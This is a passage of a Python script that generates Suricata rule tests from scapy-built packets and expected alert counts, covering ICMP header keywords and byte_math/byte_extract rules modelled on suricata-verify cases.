           'byte_test:2,=,9,6; sid:1; rev:1;)\n'
           'alert icmp any any -> any any (msg:"timestamps in the header"; icmpv4.hdr; bsize:20; '
           'sid:2; rev:1;)\n'
           'alert icmp any any -> any any (msg:"icmpv6.hdr is 8 bytes"; icmpv6.hdr; bsize:8; '
           'sid:3; rev:1;)\n'
           'alert icmp any any -> any any (msg:"echo6 seq 9"; icmpv6.hdr; content:"|80 00|"; '
           'depth:2; byte_test:2,=,9,6; sid:4; rev:1;)\n'
           'alert icmp any any -> any any (msg:"no icmpv4.hdr on ICMPv6"; icmpv4.hdr; '
           'content:"|80|"; depth:1; sid:5; rev:1;)\n',
           {1: 1, 2: 1, 3: 2, 4: 1, 5: 0},
           "No upstream case for these two; modelled on OISF/suricata-verify's *-hdr-keyword ones.\n"
           "1: ICMP echo request 192.0.2.1 -> 198.51.100.1, id 7 seq 9 (8-byte icmpv4.hdr)\n"
           "2: ICMP timestamp request: icmpv4.hdr is 20 bytes, as Suricata's\n"
           "3: ICMPv6 echo request 2001:db8::1 -> ::2, id 7 seq 9\n"
           "4: ICMPv6 neighbour solicitation (4-byte header, but icmpv6.hdr is 8 bytes)")


def byte_math_cases() -> None:
    """byte_math on header buffers, its result and a byte_extract rvalue."""
    frames = _stamp([
        _frame(IP(src=HOST_A, dst=HOST_B), TCP(sport=0x1388, dport=80, flags="S")),
        _frame(IP(src=HOST_A, dst=HOST_B), TCP(sport=0x1389, dport=80, flags="S")),
    ])
    _write("byte-math-01", frames,
           'alert tcp any any -> any any (msg:"Byte-math test"; ipv4.hdr; byte_math:bytes 1, '
           'offset 1, oper <<, rvalue 2, result result_val, relative; tcp.hdr; '
           'byte_test: 1, =, 0x88, 1, relative; sid:1;)\n'
           'alert tcp any any -> any any (msg:"Byte-math test"; ipv4.hdr; byte_math:bytes 1, '
           'offset 1, oper <<, rvalue 2, result result_val; tcp.hdr; '
           'byte_test: 1, =, 0x88, 1, relative; sid:2;)\n'
           'alert tcp any any -> any any (msg:"division by zero never matches"; ipv4.hdr; '
           'byte_math:bytes 1, offset 1, oper /, rvalue 0, result q; tcp.hdr; '
           'byte_test: 1, =, 0x88, 1, relative; sid:3;)\n',
           {1: 1, 2: 1, 3: 0},
           "Follows OISF/suricata-verify tests/byte-math-01 (sid 1, its rule) and\n"
           "detect-bytemath-01 (sid 2, the same without relative); pcaps rebuilt with scapy:\n"
           "1: TCP SYN 192.0.2.1:5000 (0x1388) -> 198.51.100.1:80: tcp.hdr byte 1 is 0x88\n"
           "2: the same from port 5001 (0x1389): no match")

    frames = _stamp([
        _frame(IP(src=HOST_A, dst=HOST_B), TCP(sport=5000, dport=80, flags="S")),
        _frame(IP(src=HOST_A, dst=HOST_B), UDP(sport=5000, dport=80)),
    ])
    chain = ("ipv4.hdr; byte_extract: 1, 0, extracted_val, relative;byte_math: bytes 1, offset 1, "
             "oper +, rvalue extracted_val, result var;")
    _write("detect-bytemath-04", frames,
           f'alert tcp any any -> any any ({chain}byte_test: 2, <, var, 2;sid:1;)\n'
           f'alert tcp any any -> any any ({chain}byte_test: 2, !=, var, 2;sid:2;)\n'
           f'alert tcp any any -> any any ({chain}byte_test: 2, >, var, 11;sid:3;)\n'
           f'alert tcp any any -> any any ({chain}byte_test: 2, =, var, 2;sid:4;)\n'
           f'alert ip any any -> any any ({chain}byte_test: 2, <, var, 2;sid:5;)\n',
           {1: 1, 2: 1, 3: 1, 4: 0, 5: 2},
           "Follows OISF/suricata-verify tests/detect-bytemath-04 (sids 1-3, its rules without\n"
           "the msg); var = IHL byte 0x45 + TOS 0 = 69. Packets rebuilt with scapy:\n"
           "1: TCP SYN 192.0.2.1:5000 -> 198.51.100.1:80, IP total length 40 (< and != 69; bytes\n"
           "   11-12 end with 0xc0, > 69)\n"
           "2: UDP 192.0.2.1:5000 -> 198.51.100.1:80, total length 28: only the alert ip rule")


if __name__ == "__main__":
    main()
